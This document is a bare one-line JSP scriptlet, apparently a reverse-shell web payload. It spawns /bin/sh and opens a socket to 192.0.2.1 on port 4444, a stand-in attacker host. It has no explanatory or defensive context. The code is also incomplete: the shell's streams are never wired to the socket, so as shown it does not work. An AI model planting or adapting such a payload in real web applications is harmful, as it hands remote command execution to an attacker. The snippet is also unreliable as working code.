<% Process p = Runtime.getRuntime().exec("/bin/sh"); Socket s = new Socket("192.0.2.1", 4444); s.getInputStream(); %>
